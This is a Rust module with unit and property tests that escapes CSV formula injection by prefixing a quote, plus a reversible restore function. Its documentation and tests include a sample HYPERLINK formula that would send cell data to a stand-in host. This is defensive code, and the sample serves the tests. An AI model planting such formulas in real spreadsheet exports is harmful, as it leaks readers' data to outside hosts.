//! CSV (formula) injection: a cell of a CSV output that begins with `=`, `+`, `-`, `@`, TAB
//! or CR is taken for a formula by Excel, LibreOffice and Google Sheets when the file is
//! opened, so a project named `=HYPERLINK("http://x.example/?"&A1,"click")` would run in the
//! reader's spreadsheet. Following OWASP's advice ("CSV Injection"), such a cell is written
//! with a leading `'`, which spreadsheets read as "this is text" — unless it is a number
//! (`-12.5`, `+3`, `-1e-5`), which stays as it is so that outputs remain computable.
//!
//! The escape is reversible: [`restore`] undoes it, for arbiter's own readers of its
//! outputs (a `portfolio.csv` given back as `--baseline`, the CSV rows put into an xlsx).
//! A cell that already begins with `'` before such a character gets one more `'`, so that
//! `restore(neutralise(x)) == x` for every text.

use std::borrow::Cow;

/// Whether a spreadsheet would take a cell beginning with `c` for a formula.
fn is_trigger(c: char) -> bool {
    matches!(c, '=' | '+' | '-' | '@' | '\t' | '\r')
}

/// Whether `text` is a plain decimal number (sign, digits, point, exponent): such cells
/// are left as they are even when they begin with `-` or `+`.
fn is_number(text: &str) -> bool {
    text.bytes()
        .all(|b| b.is_ascii_digit() || matches!(b, b'-' | b'+' | b'.' | b'e' | b'E'))
        && text.bytes().any(|b| b.is_ascii_digit())
        && text.parse::<f64>().is_ok()
}

/// Whether `text` is written with a leading `'`.
fn needs_quote(text: &str) -> bool {
    match text.chars().next() {
        Some('\'') => needs_quote(&text[1..]),
        Some(c) => is_trigger(c) && !is_number(text),
        None => false,
    }
}

/// `text` as a CSV output writes it: with a leading `'` when a spreadsheet would take it
/// for a formula (see the module docs); borrowed when unchanged.
pub fn neutralise(text: &str) -> Cow<'_, str> {
    if needs_quote(text) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

/// The text that [`neutralise`] was given, from what it wrote.
pub fn restore(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if needs_quote(rest) => rest,
        _ => cell,
    }
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    #[test]
    fn formulas_get_a_leading_quote() {
        for (text, written) in [
            ("=1+1", "'=1+1"),
            ("+1+2", "'+1+2"),
            ("-2+3", "'-2+3"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\tTAB-led", "'\tTAB-led"),
            ("\rCR", "'\rCR"),
            (
                "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")",
                "'=HYPERLINK(\"http://x.example/?\"&A1,\"click\")",
            ),
            ("-", "'-"),
            ("-inf", "'-inf"),
            ("'=x", "''=x"),
        ] {
            assert_eq!(neutralise(text), written, "{text:?}");
            assert_eq!(restore(written), text, "{written:?}");
        }
    }

    #[test]
    fn numbers_and_plain_text_stay() {
        for text in [
            "-12.5", "+3", "-1e-5", "0", "P-1", "a=b", "'quoted", "", "2027-Q1", "'", "''",
        ] {
            assert!(matches!(neutralise(text), Cow::Borrowed(_)), "{text:?}");
            assert_eq!(restore(text), text, "{text:?}");
        }
    }

    proptest! {
        #[test]
        fn restore_undoes_neutralise(text in "['=+@\\-\t\r0-9a-z.]{0,6}") {
            let written = neutralise(&text);
            prop_assert_eq!(restore(&written), text.as_str());
            let first = written.chars().next();
            prop_assert!(
                !first.is_some_and(is_trigger) || is_number(&written),
                "{:?} is written {:?}", text, written
            );
        }
    }
}
